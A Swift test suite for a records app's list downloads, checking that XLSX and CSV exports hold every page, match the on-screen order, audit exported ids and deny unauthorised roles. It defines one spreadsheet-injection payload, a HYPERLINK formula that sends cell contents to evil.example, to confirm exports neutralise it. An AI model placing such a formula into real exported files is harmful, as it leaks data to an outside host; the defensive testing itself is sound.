import Foundation
import SQLKit
import Testing
import WaymarkApp
import WaymarkCore
@testable import WaymarkFormats
import WaymarkRecords
import WaymarkStore
import WaymarkTestSupport

/// A list's download holds what its page shows — every page of it — read
/// back here with the project's own XLSX and CSV readers and compared with
/// what the page's use case returns; a download that names people is
/// audited with everyone in it, and one of counts only is not.
@Suite struct ListExportTests {
    static let now = BreakGlassFixture.now
    static let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"

    /// 1,049 more people with nothing recorded (so not known), past two chunks
    /// of 500 and eleven pages of 100, at a school whose name is a formula; the
    /// first 30 are on the adviser's caseload.
    static func lengthen(_ fixture: BreakGlassFixture) async throws -> [Int64] {
        let la = try DemoAuthority.laCode
        let adviser = try #require(fixture.users[.personalAdviser]?.id)
        return try await fixture.store.change(by: .system("test"), at: now) { tx in
            let school = try await tx.createOrganisation(NewOrganisation(kind: .school, name: hostile, laCode: DemoAuthority.code))
            var added: [Int64] = []
            for number in 1...1_049 {
                let id = try await tx.createPerson(NewYoungPerson(
                    identity: YoungPersonIdentity(
                        givenName: "Sam", familyName: family(number),
                        dateOfBirth: try CalendarDate(iso: "2009-10-01").adding(days: number % 300), gender: .male, ethnicity: .whiteBritish),
                    cohortStatus: .primary, responsibleLA: la, educatedLA: la, schoolID: school))
                if number <= 30 { try await tx.assignCaseload(of: id, adviserID: adviser, tier: .intensive, since: try CalendarDate(iso: "2026-11-01")) }
                added.append(id)
            }
            return added
        }
    }

    /// Names hold no digits: "Pupilaab" for 1, three letters counting up.
    static func family(_ number: Int) -> String {
        let letters = Array("abcdefghijklmnopqrstuvwxyz")
        return "Pupil" + String(letters[number / 676 % 26]) + String(letters[number / 26 % 26]) + String(letters[number % 26])
    }

    static func sheet(_ download: ExportDownload) async throws -> [[String]] {
        #expect(download.format == .xlsx && download.fileName.hasSuffix(".xlsx"))
        let grid = try XLSXReader.grid(try await download.data(), limits: .standard)
        return grid.rows.map(\.cells)
    }

    static func csv(_ download: ExportDownload) async throws -> [[String]] {
        let bytes = [UInt8](try await download.data())
        #expect(bytes.starts(with: [0xEF, 0xBB, 0xBF]), "a byte order mark")
        return try CSVReader.records(bytes)
    }

    @Test(arguments: TestDatabases.engines)
    func aQueueDownloadsEveryPageWithThePagesNumbersAndIsAudited(_ engine: DatabaseEngine) async throws {
        try await TestDatabases.withFreshStore(engine) { store in
            let fixture = try await BreakGlassFixture.build(store)
            _ = try await Self.lengthen(fixture)
            let services = AppServices(store: store, registry: DemoAuthority.registry, laCode: try DemoAuthority.laCode)
            let officer = try fixture.grant(.trackingOfficer)
            let order = QueueOrder(.name, descending: true)

            // The page, every page of it, as the tracking officer sees it.
            var shown: [QueueEntry] = []
            var total = 0
            for page in 1... {
                let view = try await services.queues.queue(.notKnown, days: 30, filter: QueueFilter(), order: order, page: page, pageSize: 100, for: officer, at: Self.now)
                shown += view.slice.entries
                total = view.slice.total
                if view.slice.entries.count < 100 { break }
            }
            #expect(total >= 1_049 && shown.count == total, "the 1,049 added and any of the fixture's, every page")

            let workbook = try await services.queues.export(.notKnown, days: 30, filter: QueueFilter(), order: order, format: .xlsx, for: officer, at: Self.now)
            #expect(workbook.rowCount == total)
            let rows = try await Self.sheet(workbook)
            #expect(rows.first == ["Record number", "Given name", "Family name", "Date of birth", "School", "Ward", "Adviser", "Last contact", "Why"])
            #expect(rows.count == total + 1, "the header and every page, not the first")
            #expect(rows.dropFirst().map { Int64($0[0]) } == shown.map(\.member.id), "the same people in the page's order")
            #expect(rows.dropFirst().map { $0[2] } == shown.map(\.member.familyName))
            let dates = try rows.dropFirst().map { try ImportValues.date($0[3], excelSerial: true).iso }
            #expect(dates == shown.map(\.member.dateOfBirth), "dates of birth are real dates, the same days")
            #expect(rows.filter { $0.count > 4 && $0[4] == Self.hostile }.count == 1_049, "the formula is kept as text in a string cell")

            let csv = try await Self.csv(try await services.queues.export(
                .notKnown, days: 30, filter: QueueFilter(), order: order, format: .csv, for: officer, at: Self.now))
            #expect(csv.count == total + 1 && csv.dropFirst().map { Int64($0[0]) } == shown.map(\.member.id))
            #expect(csv.filter { $0[4] == "'" + Self.hostile }.count == 1_049, "in CSV it is neutralised with an apostrophe")
            #expect(csv.dropFirst().map { $0[3] } == shown.map(\.member.dateOfBirth), "ISO dates in CSV")

            let exports = try await fixture.auditDetails(.view, entity: "queue").compactMap { $0 }.filter { $0.hasPrefix("export;") }
            #expect(exports.count == 2)
            #expect(exports.first?.hasPrefix("export; format=xlsx; queue=not-known; days=30; sort=name descending; total=\(total); ") == true)
            #expect(exports.first?.contains("shown=" + shown.map { String($0.member.id) }.joined(separator: ",") + ";") == true, "everyone in it, in order")
            #expect(exports.allSatisfy { !$0.contains("Sam") && !$0.contains("Pupil") }, "ids, never names")

            await #expect(throws: AccessDenied.self, "the page's permission: an adviser has no queues") {
                try await services.queues.export(.notKnown, days: 30, filter: QueueFilter(), format: .csv, for: try fixture.grant(.personalAdviser), at: Self.now)
            }
        }
    }

    @Test(arguments: TestDatabases.engines)
    func caseloadListsDownloadAsThePageShowsThemAndAreAudited(_ engine: DatabaseEngine) async throws {
        try await TestDatabases.withFreshStore(engine) { store in
            let fixture = try await BreakGlassFixture.build(store)
            _ = try await Self.lengthen(fixture)
            let services = AppServices(store: store, registry: DemoAuthority.registry, laCode: try DemoAuthority.laCode)
            let adviser = try fixture.grant(.personalAdviser)
            let adviserID = try #require(fixture.users[.personalAdviser]?.id)

            // The adviser's own lists: each one's download equals its page.
            var compared = 0
            for list in WorkList.allCases {
                let items = try await services.workspace.myList(list, for: adviser, at: Self.now)
                let rows = try await Self.sheet(try await services.workspace.myListExport(list, format: .xlsx, for: adviser, at: Self.now))
                #expect(rows.count == items.count + 1, "\(list.rawValue)")
                #expect(rows.dropFirst().map { Int64($0[0]) } == items.map(\.member.id), "\(list.rawValue)")
                #expect(rows.dropFirst().map { $0.count > 5 ? $0[5] : "" } == items.map(\.reason), "\(list.rawValue): the Why column")
                compared += items.count
            }
            #expect(compared >= 31, "the caseload of 31, each in one of the tier lists at least")

            // A manager's view of the adviser's caseload.
            let manager = try fixture.grant(.manager)
            let team = try await services.workspace.teamList(adviser: adviserID, contactsThisMonth: false, for: manager, at: Self.now)
            #expect(team.members.count == 31)
            let rows = try await Self.csv(try await services.workspace.teamListExport(
                adviser: adviserID, contactsThisMonth: false, format: .csv, for: manager, at: Self.now))
            #expect(rows.first == ["Record number", "Given name", "Family name", "Date of birth", "School", "Why"])
            #expect(rows.dropFirst().map { Int64($0[0]) } == team.members.map(\.id))
            #expect(rows.filter { $0[4] == "'" + Self.hostile }.count == 30, "the school's name, neutralised")

            let views = try await fixture.auditDetails(.view, entity: "caseload_list").compactMap { $0 }
            #expect(views.filter { $0.hasPrefix("export; format=xlsx; my work; list=") }.count == WorkList.allCases.count)
            let everyone = team.members.map { String($0.id) }.joined(separator: ",")
            #expect(views.contains { $0.hasPrefix("export; format=csv; team; adviser=\(adviserID); list=caseload; shown=\(everyone); purpose=") })
            await #expect(throws: AccessDenied.self, "a tracking officer has no team") {
                try await services.workspace.teamListExport(adviser: adviserID, contactsThisMonth: false, format: .csv, for: try fixture.grant(.trackingOfficer), at: Self.now)
            }
        }
    }

    @Test(arguments: TestDatabases.engines)
    func theTeamTableIsCountsOnlyAndSoNotAudited(_ engine: DatabaseEngine) async throws {
        try await TestDatabases.withFreshStore(engine) { store in
            let fixture = try await BreakGlassFixture.build(store)
            let added = try await Self.lengthen(fixture)
            // Two on the caseload contacted this month (one of them twice), one only last month, one not on the caseload.
            let thisMonth = Self.now.addingTimeInterval(-86_400), lastMonth = Self.now.addingTimeInterval(-40 * 86_400)
            try await store.change(by: .system("test"), at: Self.now) { tx in
                for (person, when) in [(added[0], thisMonth), (added[0], thisMonth), (added[1], thisMonth), (added[2], lastMonth), (added[40], thisMonth)] {
                    _ = try await tx.recordContact(NewContact(occurredAt: when, method: .phone, direction: .outbound, outcome: "Spoke"), for: person)
                }
            }
            let services = AppServices(store: store, registry: DemoAuthority.registry, laCode: try DemoAuthority.laCode)
            let manager = try fixture.grant(.manager)
            let before = try await Self.auditCount(store)
            let workloads = try await services.workspace.team(for: manager, at: Self.now)
            let rows = try await Self.sheet(try await services.workspace.teamExport(format: .xlsx, for: manager, at: Self.now))
            #expect(rows.first == ["Personal adviser", "Account disabled", "Caseload", "Contacts this month", "Caseload contacted this month", "Contact rate"])
            #expect(rows.dropFirst().map { $0[0] } == workloads.map(\.displayName))
            #expect(rows.dropFirst().map { Int($0[2]) } == workloads.map(\.caseload), "the page's numbers, as numbers")
            #expect(workloads.first?.caseload == 31)
            #expect(workloads.first?.caseloadContacted == 2, "people, not contacts; this month only; on the caseload only")
            #expect(rows.dropFirst().map { Int($0[4]) } == workloads.map(\.caseloadContacted))
            #expect(try await Self.auditCount(store) == before, "no young person in it: nothing to audit")
            await #expect(throws: AccessDenied.self) { try await services.workspace.teamExport(format: .csv, for: try fixture.grant(.careersLeader), at: Self.now) }
        }
    }

    static func auditCount(_ store: Store) async throws -> Int {
        try await store.sql.raw("SELECT COUNT(*) AS n FROM audit_event").first(decodingColumn: "n", as: Int.self) ?? 0
    }
}
